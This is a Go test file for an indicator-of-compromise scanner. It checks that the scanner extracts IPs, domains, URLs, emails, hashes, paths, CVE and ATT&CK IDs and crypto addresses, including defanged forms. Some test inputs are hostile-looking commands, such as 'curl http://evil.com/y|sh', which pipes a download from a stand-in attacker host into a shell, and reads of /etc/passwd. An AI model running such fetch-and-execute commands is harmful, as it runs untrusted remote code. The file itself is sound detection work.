package ioc_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/ioc"
)

// found lists what is in text as "type value" in order, without the types
// named.
func found(s *ioc.Scanner, text string, without ...ioc.Type) []string {
	out := []string{}
	for m := range s.Scan(text) {
		if !slices.Contains(without, m.Type) {
			out = append(out, string(m.Type)+" "+m.Value)
		}
	}
	return out
}

type scanCase struct {
	text string
	want []string
}

func testScan(t *testing.T, s *ioc.Scanner, cases []scanCase, without ...ioc.Type) {
	t.Helper()
	for _, c := range cases {
		if c.want == nil {
			c.want = []string{}
		}
		assert.Equal(t, c.want, found(s, c.text, without...), "%q", c.text)
	}
}

func TestIPv4(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"203.0.113.9", []string{"ipv4 203.0.113.9"}},
		{"from 203.0.113.9:22, 203.0.113.10.", []string{"ipv4 203.0.113.9", "ipv4 203.0.113.10"}},
		{"(203.0.113.9) [203.0.113.10] <203.0.113.11> \"203.0.113.12\"", []string{"ipv4 203.0.113.9", "ipv4 203.0.113.10", "ipv4 203.0.113.11", "ipv4 203.0.113.12"}},
		{"SRC=203.0.113.9 DST=10.0.0.5", []string{"ipv4 203.0.113.9", "ipv4 10.0.0.5"}},
		{"client 203.0.113.9#53", []string{"ipv4 203.0.113.9"}},
		{"018.12.15.14 01.01.1.1", []string{"ipv4 18.12.15.14", "ipv4 1.1.1.1"}},
		// not octets, not four
		{"256.1.1.1 1.1.1.256 1.2.3.4.5 1.2.3 1234.1.1.1 0001.1.1.1 1.1.1.1000", nil},
		// glued words
		{"from203.0.113.9port words1.1.1.1words", []string{"ipv4 203.0.113.9", "ipv4 1.1.1.1"}},
		{"v1.2.3.4 a1.2.3.4 rc1.2.3.4 1.2.3.4rc1 1.2.3.4b", nil},
		{"peer_10.0.0.1_443", []string{"ipv4 10.0.0.1"}},
		// ranges and packages
		{"10.0.0.1-10.0.0.9", []string{"ipv4 10.0.0.1", "ipv4 10.0.0.9"}},
		{"libfoo-1.2.3.4 5.15.0.91-generic 1.2.3.4-1ubuntu2", nil},
		// versions
		{"Chrome/120.0.0.0 Safari/537.36", nil},
		{"version 1.2.3.4, Version: 1.2.3.4; ver=1.2.3.4 v 1.2.3.4 release 1.2.3.4", nil},
		{"GET /1.2.3.4", []string{"ipv4 1.2.3.4"}},
		{".1.1.1.1", nil},
		{"..1.1.1.1", []string{"ipv4 1.1.1.1"}},
		// defanged
		{"1[.]2[.]3[.]4 1(.)2.3(.)4 1[dot]2[dot]3[dot]4 1[.2.]3[.4", slices.Repeat([]string{"ipv4 1.2.3.4"}, 4)},
		{`10.10.10\.10 10\\\.10\.10\.10`, []string{"ipv4 10.10.10.10", "ipv4 10.10.10.10"}},
		{"1[.]2[.]3[.]400", nil},
	}, ioc.LinuxPath)
}

func TestCIDR(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"10.0.0.0/8", []string{"cidr 10.0.0.0/8", "ipv4 10.0.0.0"}},
		{"10.0.0.0/33 10.0.0.0/08 10.0.0.0/8a", []string{"ipv4 10.0.0.0", "ipv4 10.0.0.0", "ipv4 10.0.0.0"}},
		{"2001:db8::/32 2001:DB8::/129", []string{"cidr 2001:db8::/32", "ipv6 2001:db8::", "ipv6 2001:db8::"}},
	})
}

func TestIPv6(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"2001:db8::1 ::1 fe80:: 2001:db8::", []string{"ipv6 2001:db8::1", "ipv6 ::1", "ipv6 fe80::", "ipv6 2001:db8::"}},
		{"2001:0DB8:0000:0000:0008:0800:200C:417A", []string{"ipv6 2001:db8::8:800:200c:417a"}},
		{"::ffff:192.0.2.1 ::13.1.68.3", []string{"ipv6 ::ffff:192.0.2.1", "ipv6 ::d01:4403"}},
		{"[2001:db8::1]:443 (2001:db8::2), 2001:db8::3. from 2001:db8::4: x", []string{"ipv6 2001:db8::1", "ipv6 2001:db8::2", "ipv6 2001:db8::3", "ipv6 2001:db8::4"}},
		{"fe80::1%eth0.5 fe80::2%25wlan0", []string{"ipv6 fe80::1%eth0.5", "ipv6 fe80::2%wlan0"}},
		// a zone means nothing on a global address
		{"2001:db8::1%eth0", []string{"ipv6 2001:db8::1"}},
		// tcpdump
		{"IP6 2001:db8::1.443 > 2001:db8::2.5353:", []string{"ipv6 2001:db8::1", "ipv6 2001:db8::2"}},
		{"2001:db8::1-2001:db8::5", []string{"ipv6 2001:db8::1", "ipv6 2001:db8::5"}},
		// times, dates, scopes, fingerprints
		{"12:34:56 2024:08:26:42 1:2:3 12:34:56.789 00:00", nil},
		{"std::vector a::b dead::beef foo::bar::baz d:: ::ba :: Foo::A1", nil},
		{"SHA256:aa MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48", nil},
		{"00:11:22:33:44:55:66:77", nil},
		{"1:2:3:4:5:6:7:8", []string{"ipv6 1:2:3:4:5:6:7:8"}},
		{"1:2:3:4:5:6:7 1:2:3:4:5:6:7:8:9 12345:1:2:3:4:5:6:7 1::2::3 2002:::1", nil},
	})
}

func TestNames(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"example.com EXAMPLE.Org. www.example.co.uk", []string{"dns example.com", "dns example.org", "dns www.example.co.uk"}},
		{"_dmarc.example.com o_o.example.nl", []string{"dns _dmarc.example.com", "dns o_o.example.nl"}},
		{"xn--mnchen-3ya.de münchen.de 中国.中国 papaya.рф test.xn--p1ai", []string{"dns xn--mnchen-3ya.de", "dns münchen.de", "dns 中国.中国", "dns papaya.рф", "dns test.xn--p1ai"}},
		{"“example.com” …example.com… «example.org»", []string{"dns example.com", "dns example.com", "dns example.org"}},
		{"*.example.com domain=.example.com", []string{"dns example.com", "dns example.com"}},
		{"-example.com www.-example.com example.com-", []string{"dns example.com", "dns example.com", "dns example.com"}},
		{"%2Fexample.com", []string{"dns example.com"}},
		{"foo.i2p", []string{"dns foo.i2p"}},
		// no such top-level domain, or nobody's name
		{"example.invalid foo.randombar some.guy host.local web01.internal co.uk com.br .com", nil},
		{"evil..com a..b.com _example.info", nil},
		{strings.Repeat("z", 64) + ".com", nil},
		{strings.Repeat("a.", 130) + "com", nil},
		// files
		{"backup.sh rotate.py README.md main.rs libc.so archive.zip", nil},
		{"/x/run.sh ./run.sh /opt/tools/rotate.py /srv/www/shop.xyz", []string{"dns shop.xyz"}},
		{"/etc/letsencrypt/live/example.com/cert.pem", []string{"dns example.com"}},
		{"Main.java:42 log4j.properties System.map auth.info", nil},
		{"/etc/letsencrypt/live/example.pl/key.pub", []string{"dns example.pl"}},
		{"libc.so.6[7f00+195000] main.pl:42", nil},
		{"C:\\Windows\\evil.com", nil},
		{"get.example.sh www.x.py wp.pl", []string{"dns get.example.sh", "dns www.x.py", "dns wp.pl"}},
		// units
		{"ssh.service apt-daily.timer network.target session-4.scope multi-user.target", nil},
		// packages, properties, calls, versions, sentences
		{"com.example.app org.apache.commons.io com.example.service.UserService java.lang.name", nil},
		{"user.name=x user.name: x {\"user.name\":\"x\"} obj.info(1) System.Net", nil},
		{"1.2.0.dev 12.ms 3.5.id", nil},
		{"done.Info failed.So", nil},
		{"a.b@ @example.com example.com@", nil},
		// defanged
		{"evil[.]com evil(.)com evil{.}com evil<.>com evil[dot]com evil (dot) com evil [.] com evil[.com evil.]com evil\\.com", slices.Repeat([]string{"dns evil.com"}, 10)},
		{"a[.]b.evil[.]com", []string{"dns a.b.evil.com"}},
		{"run[.]sh", []string{"dns run.sh"}},
		{"evil (.com) evil . com evil dot com evil.) com sshd[123] a[0].b foo(bar)", nil},
	}, ioc.LinuxPath, ioc.WindowsPath)
}

func TestURL(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"https://evil.example.com/a?b=c#d", []string{"url https://evil.example.com/a?b=c#d"}},
		{"HTTP://Evil.Example.COM/Path", []string{"url http://evil.example.com/Path"}},
		{"http://evil.com. http://evil.com, (http://evil.com/a) http://evil.com/a), http://evil.com/b!!! http://evil.com/…", []string{"url http://evil.com", "url http://evil.com", "url http://evil.com/a", "url http://evil.com/a", "url http://evil.com/b", "url http://evil.com/"}},
		{"http://evil.com/a_(b)_[c]_{d} (http://evil.com/a_(b))", []string{"url http://evil.com/a_(b)_[c]_{d}", "url http://evil.com/a_(b)"}},
		{"[x](http://evil.com/a) [http://evil.com/b](c) {\"u\":\"http://evil.com/c\"}", []string{"url http://evil.com/a", "url http://evil.com/b", "url http://evil.com/c"}},
		{"curl 'http://evil.com/x'; curl http://evil.com/y|sh; curl http://evil.com/z&&sh", []string{"url http://evil.com/x", "url http://evil.com/y", "url http://evil.com/z"}},
		{"http://[2001:db8::1]:80/x http://[fe80::1%25eth0]/", []string{"url http://[2001:db8::1]:80/x", "url http://[fe80::1%25eth0]/"}},
		{"http://user:pw@evil.com:8080/x http://good.com@evil.com/", []string{"url http://user:pw@evil.com:8080/x", "url http://good.com@evil.com/"}},
		{"http://203.0.113.9:99999/ http://203.0.113.9:aaa", []string{"url http://203.0.113.9:99999/", "url http://203.0.113.9"}},
		{"http://localhost:8080/x http://a.a/ tcp://10.0.0.1:80 file:///etc/passwd", []string{"url http://localhost:8080/x", "url http://a.a/", "url tcp://10.0.0.1:80", "url file:///etc/passwd"}},
		{"urlhttp://evil.com foo:https://evil.com", []string{"url http://evil.com", "url https://evil.com"}},
		{"http:// http://. http://# http://?? http://: ://x http://.example.com http://example.com_ http:///x", nil},
		// defanged
		{"hxxp://evil.com hXXps://evil.com h**p://evil.com htxp://evil.com meow://evil.com fxp://evil.com h[tt]ps://evil.com", []string{"url http://evil.com", "url https://evil.com", "url http://evil.com", "url http://evil.com", "url http://evil.com", "url ftp://evil.com", "url https://evil.com"}},
		{"hxxps[:]//evil[.]com/a[.]b http[://]evil(dot)com[:]8080/x http:[/][/]evil.com[/]x", []string{"url https://evil.com/a.b", "url http://evil.com:8080/x", "url http://evil.com/x"}},
		{`http:\\evil.com/x http:/www.evil.com`, []string{"url http://evil.com/x", "url http://www.evil.com"}},
		{`hxxp[:]\\evil[.]com hxxp://evil dot com/x http[s]://evil.com/`, []string{"url http://evil.com", "url http://evil.com/x", "url https://evil.com/"}},
		// URLs in URLs
		{"http://a.com/?u=http://b.com/x&v=http://c.com/y", []string{"url http://a.com/?u=http://b.com/x&v=http://c.com/y", "url http://b.com/x", "url http://c.com/y"}},
		{"http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", []string{"url http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", "url http://b.com/x"}},
		{"https%3A%2F%2Fb.com%2Fx", []string{"url https://b.com/x"}},
		{"echo aHR0cDovL2V2aWwuY29tL3g=", []string{"url http://evil.com/x"}},
		// without a scheme
		{"curl evil.com/x.sh 203.0.113.9/x.sh 203.0.113.9:8080/x", []string{"url evil.com/x.sh", "url 203.0.113.9/x.sh", "url 203.0.113.9:8080/x"}},
		{"evil[.]com/x/", []string{"url evil.com/x/"}},
		{"203.0.113.9/tcp evil.com evil[.]com 10.0.0.0/255.0.0.0", []string{"url 10.0.0.0/255.0.0.0"}},
	}, ioc.DNS, ioc.IPv4, ioc.IPv6, ioc.CIDR, ioc.LinuxPath, ioc.WindowsPath)
}

func TestEmail(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"alice@example.com <bob@mail.example.org>, 'x.y+z@example.co.uk'", []string{"email alice@example.com", "email bob@mail.example.org", "email x.y+z@example.co.uk"}},
		{"Alice@EXAMPLE.com", []string{"email Alice@example.com"}},
		{"mail=a@example.com&b=1 mailto:c@example.com smtp.from=d@example.com", []string{"email a@example.com", "email c@example.com", "email d@example.com"}},
		{"x@[192.0.2.1] y@203.0.113.9", []string{"email x@[192.0.2.1]", "email y@203.0.113.9"}},
		{"test.\"foo\".bar@example.com 192.168.1.1@example.com", []string{"email test.\"foo\".bar@example.com", "email 192.168.1.1@example.com"}},
		{"johndoe@清华大学.cn", []string{"email johndoe@清华大学.cn"}},
		{"user@1000.service getty@tty1.service x@host a@a @x.com x@ x@multi-user.target news.ycombinATor.com x@example.comahhh x@1.2.3.4.5", nil},
		{"x[@]example.com x[at]example[.]com x (at) example (dot) com x at example[.]com x at example dot com x{at}example.com x/AT/example/DOT/com", slices.Repeat([]string{"email x@example.com"}, 7)},
		{"x@ example[.]com x @ example.com", []string{"email x@example.com", "email x@example.com"}},
		{"look at the dot; x @ words. Sentence x@example . com", nil},
		{strings.Repeat("a", 65) + "@example.com", nil},
	}, ioc.DNS, ioc.IPv4)
}

func TestHashes(t *testing.T) {
	md5 := "68b329da9893e34099c7d8ad5cb9c940"
	sha1 := "adc83b19e793491b1c6ea0fd8b46cd9f32e592fc"
	sha256 := "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b"
	sha512 := sha256 + sha256
	testScan(t, allTypes(t), []scanCase{
		{md5 + "," + md5 + " " + sha1 + ";" + sha256 + ":" + sha512, []string{"md5_hash " + md5, "md5_hash " + md5, "sha1_hash " + sha1, "sha256_hash " + sha256, "sha512_hash " + sha512}},
		{"sha256:" + strings.ToUpper(sha256), []string{"sha256_hash " + sha256}},
		{"words" + md5 + "words docker-" + sha256 + ".scope", []string{"md5_hash " + md5, "sha256_hash " + sha256}},
		{"f" + md5 + " " + md5 + "0 " + sha256 + "aa", nil},
		{"550e8400-e29b-41d4-a716-446655440000", nil},
		{strings.Repeat("0", 32) + " " + strings.Repeat("f", 64) + " 12345678901234567890123456789012", nil},
		{strings.Repeat("a", 32) + " x" + strings.Repeat("a", 32), []string{"md5_hash " + strings.Repeat("a", 32)}},
		{"proctitle=636174002f6574632f7375646f657273 saddr=02000050a9fea9fe0000000000000000", nil},
		{"imphash: " + md5 + " Import Hash = " + md5 + " authentihash " + sha256, []string{"imphash " + md5, "imphash " + md5, "authentihash " + sha256}},
		{"IMPHASH\n" + md5, []string{"imphash " + md5}},
		{"1536:yB+A8bMtMeRlbIzvDqZL4QzNxVDm+5gt+M2hDDDvNZ3YZ7sU:N4tMsbOGcyrV6BQvnoZ4U,x", []string{"ssdeep 1536:yB+A8bMtMeRlbIzvDqZL4QzNxVDm+5gt+M2hDDDvNZ3YZ7sU:N4tMsbOGcyrV6BQvnoZ4U"}},
		{"1537:yB+A8bMtMeRlbIzvDqZL4:N4tMs 12:34:56", nil},
	})
	for shift := range 70 { // wherever the run stands, a stride meets it
		text := strings.Repeat("-", shift) + md5 + "-"
		assert.Equal(t, []string{"md5_hash " + md5}, found(allTypes(t), text))
	}
}

func TestPaths(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"cat /etc/passwd, /var/log/syslog. \"/tmp/x\" PWD=/root ~/.ssh/id_rsa", []string{"linux_path /etc/passwd", "linux_path /var/log/syslog", "linux_path /tmp/x", "linux_path /root", "linux_path ~/.ssh/id_rsa"}},
		{`/home/x/My\ File a/b N/A 1/2 / // \"GET /index.html HTTP/1.1\"`, []string{`linux_path /home/x/My\ File`}},
		{"PATH=/usr/bin:/bin;x>/dev/null", []string{"linux_path /usr/bin", "linux_path /bin", "linux_path /dev/null"}},
		{"/Library/File System/x.bin", []string{"linux_path /Library/File System/x.bin"}},
		{`C:\Windows\System32\cmd.exe D:\x.bat \\srv\share\y.exe`, []string{`windows_path C:\Windows\System32\cmd.exe`, `windows_path D:\x.bat`, `windows_path \\srv\share\y.exe`}},
		{`c:\Program Files\Flash Player\x.exe -v C:\Users\<name>\a.txt`, []string{`windows_path c:\Program Files\Flash Player\x.exe`, `windows_path C:\Users\<name>\a.txt`}},
		{`"s:\n" \\d+\\n$ \\pard\\li \\\\srv\\share\\x`, []string{`windows_path \\\\srv\\share\\x`}},
		{`HKLM\Software\Microsoft\Windows NT\Run HKCU\Control Panel\Desktop is HKEY_USERS\x\`, []string{`registry_key HKLM\Software\Microsoft\Windows NT\Run`, `registry_key HKCU\Control Panel\Desktop`, `registry_key HKEY_USERS\x\`}},
		{`%APPDATA%\foo\bar.exe 100%\x`, []string{`windows_path %APPDATA%\foo\bar.exe`}},
		{`<b>x</b> cat </etc/passwd`, []string{"linux_path /etc/passwd"}},
		{`HKLM:\SOFTWARE\x, xHKLM\y`, []string{`registry_key HKLM:\SOFTWARE\x`}},
		{`HKCU\Software\Explorer\Shell Folders`, []string{`registry_key HKCU\Software\Explorer\Shell Folders`}},
	})
}

func TestIDs(t *testing.T) {
	testScan(t, allTypes(t), []scanCase{
		{"CVE-2021-44228 cve-2014-0160, CVE 2020-1234", []string{"cve CVE-2021-44228", "cve CVE-2014-0160", "cve CVE-2020-1234"}},
		{"CVE-1800-0000 CVE-2021-1 xCVE-2021-44228 CVE-2021-44228a", nil},
		{"AS64496 ASN64497 AS 64498 asn 64499", []string{"asn AS64496", "asn AS64497", "asn AS64498", "asn AS64499"}},
		{"as 2014 AS1234foo FOOAS1234 AS0 AS99999999999 ALIAS1", nil},
		{"T1059.004 T1003", []string{"attack_technique T1059.004", "attack_technique T1003"}},
		{"T10590 T1059.0041 xT1059 T105", nil},
		{"00:53:00:AA:bb:cc 00-53-00-aa-bb-cd 0053.00aa.bbce", []string{"mac 00:53:00:aa:bb:cc", "mac 00:53:00:aa:bb:cd", "mac 00:53:00:aa:bb:ce"}},
		{"MAC=00:53:00:aa:bb:cc:00:53:00:dd:ee:ff:08:00", []string{"mac 00:53:00:aa:bb:cc", "mac 00:53:00:dd:ee:ff"}},
		{"00:53:00:aa:bb 00-53-00-aa-bb-cd-ee 12:34:56", nil},
		{"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", []string{"bitcoin 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "bitcoin 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "bitcoin bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"}},
		{"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp", nil},
		{"0x4966db520b0680fc19df5d7774ca96f42e6abd4f", []string{"ethereum 0x4966db520b0680fc19df5d7774ca96f42e6abd4f", "sha1_hash 4966db520b0680fc19df5d7774ca96f42e6abd4f"}},
		{"42CujFXn1HHiwrGW3Wuh8TASmo94dv3J8DZneS5NqBhaJVNi4qK32Zj3rgcDWsrxznP1qtjJFBKtHQCcbSCY996wMHHfvhw", []string{"monero 42CujFXn1HHiwrGW3Wuh8TASmo94dv3J8DZneS5NqBhaJVNi4qK32Zj3rgcDWsrxznP1qtjJFBKtHQCcbSCY996wMHHfvhw"}},
		{"protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd", []string{"onion protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd"}},
		{"http://protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd.onion/x", []string{"url http://protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd.onion/x", "onion protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd.onion"}},
	})
}

func TestTokensAnywhere(t *testing.T) {
	for _, word := range []string{"BC1SW50QA3JX3S", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "protonmailrmez3lotccipshtkleegetolb73fuirgj7r4o4vfu7ozyd"} {
		for _, types := range [][]ioc.Type{ioc.Types(), {ioc.Bitcoin}, {ioc.Onion}} {
			s, err := ioc.New(ioc.Options{Types: types})
			require.NoError(t, err)
			want := len(found(s, word))
			for shift := range 120 {
				for _, pad := range []string{"-", "a ", "abcdefgh "} {
					text := strings.Repeat(pad, shift) + " " + word + strings.Repeat(" b", shift%7)
					assert.Len(t, found(s, text), want, "%q", text)
				}
			}
		}
	}
}

func TestParts(t *testing.T) {
	text := "http://evil.com/203.0.113.9 a@b.com 10.0.0.0/8"
	var got []string
	for m := range allTypes(t).Scan(text) {
		parent := ""
		if !m.Parent.IsZero() {
			parent = string(m.Parent.Type) + " " + text[m.Parent.Start:m.Parent.End]
		}
		got = append(got, fmt.Sprintf("%s %s < %s", m.Type, m.Value, parent))
	}
	assert.Equal(t, []string{
		"url http://evil.com/203.0.113.9 < ",
		"dns evil.com < url http://evil.com/203.0.113.9",
		"ipv4 203.0.113.9 < url http://evil.com/203.0.113.9",
		"email a@b.com < ",
		"dns b.com < email a@b.com",
		"cidr 10.0.0.0/8 < ",
		"ipv4 10.0.0.0 < cidr 10.0.0.0/8",
	}, got)
	s, err := ioc.New(ioc.Options{NoParts: true})
	require.NoError(t, err)
	assert.Equal(t, []string{"url http://evil.com/203.0.113.9", "email a@b.com", "cidr 10.0.0.0/8"}, found(s, text))
}

func TestDefangedAndRaw(t *testing.T) {
	var m ioc.Match
	for m = range ioc.Default().Scan("see hxxp://evil[.]com/x now") {
		break
	}
	assert.Equal(t, ioc.Match{Type: ioc.URL, Value: "http://evil.com/x", Raw: "hxxp://evil[.]com/x", Start: 4, End: 23, Defanged: true}, m)
	for _, text := range []string{"http://evil.com/x", "evil.com", "203.0.113.9", "a@evil.com", "CVE-2021-44228"} {
		for m := range ioc.Default().Scan(text) {
			assert.False(t, m.Defanged, text)
		}
	}
}

func TestTypes(t *testing.T) {
	for _, typ := range ioc.Types() {
		s, err := ioc.New(ioc.Options{Types: []ioc.Type{typ}})
		require.NoError(t, err)
		for _, a := range append(slices.Clone(attacks), logLines) {
			for m := range s.Scan(strings.Repeat(a, 3)) {
				assert.Equal(t, typ, m.Type)
			}
		}
	}
	_, err := ioc.New(ioc.Options{Types: []ioc.Type{"ipv5"}})
	require.ErrorIs(t, err, ioc.ErrType)
	assert.Contains(t, err.Error(), `"ipv5"`)
	none, err := ioc.New(ioc.Options{Types: []ioc.Type{}})
	require.NoError(t, err)
	assert.Empty(t, found(none, logLines), "no types, no matches")
	assert.Subset(t, ioc.Types(), ioc.DefaultTypes())
}

// TestOneType holds that a type is found the same whether it is looked for
// alone or with all others, but for those that another type takes.
func TestOneType(t *testing.T) {
	text := logLines + " CVE-2021-44228 hxxp://evil[.]com/x 10.0.0.0/8 fe80::1%eth0 AS64496 T1059.004 x@evil.com C:\\x\\y HKLM\\a\\b 68b329da9893e34099c7d8ad5cb9c940"
	byType := map[ioc.Type][]string{}
	for m := range allTypes(t).Scan(text) {
		byType[m.Type] = append(byType[m.Type], m.Value)
	}
	for typ, want := range byType {
		s, err := ioc.New(ioc.Options{Types: []ioc.Type{typ}})
		require.NoError(t, err)
		var got []string
		for m := range s.Scan(text) {
			got = append(got, m.Value)
		}
		assert.Equal(t, want, got, typ)
	}
	assert.Greater(t, len(byType), 12)
}

func TestCustom(t *testing.T) {
	find := func(text string, at int) (int, int, string, bool) {
		e := at + 5
		for e < len(text) && text[e] >= '0' && text[e] <= '9' {
			e++
		}
		return at, e, "INC-" + text[at+5:e], e > at+5
	}
	s, err := ioc.New(ioc.Options{Types: []ioc.Type{ioc.IPv4}, Custom: []ioc.Custom{{Type: "incident", Prefix: "case#", Find: find}}})
	require.NoError(t, err)
	assert.Equal(t, []string{"incident INC-42", "ipv4 10.0.0.1"}, found(s, "see case#42 case# from 10.0.0.1"))

	plate := func(text string, at int) (int, int, string, bool) {
		l, r := at, at+1
		for l > 0 && text[l-1] > ' ' {
			l--
		}
		for r < len(text) && text[r] > ' ' {
			r++
		}
		return l, r, "", strings.Count(text[l:r], "~") == 2
	}
	s, err = ioc.New(ioc.Options{Types: []ioc.Type{}, Custom: []ioc.Custom{{Type: "plate", Bytes: "~", Find: plate}}})
	require.NoError(t, err)
	assert.Equal(t, []string{"plate M~AB~12"}, found(s, "car M~AB~12 x~y"), "found once, though it has two of the bytes")

	for name, c := range map[string]ioc.Custom{
		"no type":    {Prefix: "x", Find: find},
		"taken":      {Type: ioc.DNS, Prefix: "x", Find: find},
		"no trigger": {Type: "x", Find: find},
		"no find":    {Type: "x", Prefix: "x"},
	} {
		_, err := ioc.New(ioc.Options{Custom: []ioc.Custom{c}})
		assert.ErrorIs(t, err, ioc.ErrCustom, name)
	}
	liar := func(text string, at int) (int, int, string, bool) { return -1, len(text) + 5, "x", true }
	s, err = ioc.New(ioc.Options{Custom: []ioc.Custom{{Type: "liar", Bytes: "x", Find: liar}}})
	require.NoError(t, err)
	assert.Empty(t, found(s, "xxx"), "a range outside the text is dropped")
}

func TestScanStops(t *testing.T) {
	n := 0
	for range ioc.Default().Scan("1.1.1.1 2.2.2.2 3.3.3.3") {
		if n++; n == 2 {
			break
		}
	}
	assert.Equal(t, 2, n)
}

func TestAppendKeeps(t *testing.T) {
	first := []ioc.Match{{Type: "mine", Value: "x"}}
	ms := ioc.Default().AppendMatches(first, "10.0.0.1")
	require.Len(t, ms, 2)
	assert.Equal(t, first[0], ms[0])
}

func TestAllocatesNothing(t *testing.T) {
	s := ioc.Default()
	ms := s.AppendMatches(nil, logLines)
	require.NotEmpty(t, ms)
	for _, m := range ms {
		if m.Value != m.Raw {
			t.Logf("%s: %s is not %s", m.Type, m.Value, m.Raw)
		}
	}
	assert.Zero(t, testing.AllocsPerRun(50, func() { ms = s.AppendMatches(ms[:0], logLines) }))
}
